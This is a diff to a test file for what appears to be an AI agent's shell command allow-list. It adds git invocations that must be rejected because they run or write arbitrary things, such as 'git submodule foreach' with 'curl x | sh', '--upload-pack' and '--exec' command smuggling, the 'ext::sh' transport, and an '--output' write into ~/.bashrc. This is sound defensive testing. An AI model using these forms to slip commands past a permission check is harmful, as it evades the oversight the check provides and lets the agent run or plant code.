@@ -36,6 +36,26 @@ def _allowed(command: str, tmp_path: Path) -> bool:
         "git --config-env=core.pager=EVIL log",
         "git --exec-path=/tmp status",
         "git status && git -c core.sshCommand=/tmp/x fetch",
+        # Subcommands and options that run what the command line names.
+        "git submodule foreach 'curl x | sh'",
+        "git bisect run sh -c id",
+        "git rebase --exec 'touch /tmp/x' HEAD~1",
+        "git rebase -x'touch /tmp/x' HEAD~1",
+        "git grep --open-files-in-pager='touch /tmp/x' main",
+        "git fetch --upload-pack='touch /tmp/x;' .",
+        "git ls-remote --upload-pack='touch /tmp/x;' .",
+        "git clone -u 'touch /tmp/x;' . /tmp/y",
+        "git push --receive-pack='touch /tmp/x;' . HEAD:x",
+        "git difftool -y -x 'touch /tmp/x'",
+        "git filter-branch --tree-filter 'touch /tmp/x' HEAD",
+        "git fetch ext::sh",
+        # ... or write a file it names (the commit message the model wrote, into ~/.bashrc).
+        "git log -1 --format=%B --output=/home/u/.bashrc",
+        "git format-patch -o /tmp/out HEAD~1",
+        # ... or obey another repository's config and hooks (a .git file the model wrote).
+        "git -C vendored status",
+        "git --git-dir=notes/.hidden status",
+        "git --work-tree=/ status",
     ],
 )
 def test_git_told_to_run_a_program_matches_no_allow_rule(command: str, tmp_path: Path) -> None:
@@ -50,6 +70,13 @@ def test_git_told_to_run_a_program_matches_no_allow_rule(command: str, tmp_path:
         "git -c user.name=agentsh -c user.email=a@b.c commit -m 'fix: x'",
         "git -c color.ui=never diff",
         "git commit -m 'use -c core.pager in docs'",
+        "git commit -m 'rebase --exec runs tests'",
+        "git rebase -i HEAD~2",
+        "git push -u origin main",
+        "git fetch origin",
+        "git submodule update --init",
+        "git grep -n TODO",
+        "git log -p -5",
     ],
 )
 def test_plain_git_commands_still_match(command: str, tmp_path: Path) -> None:
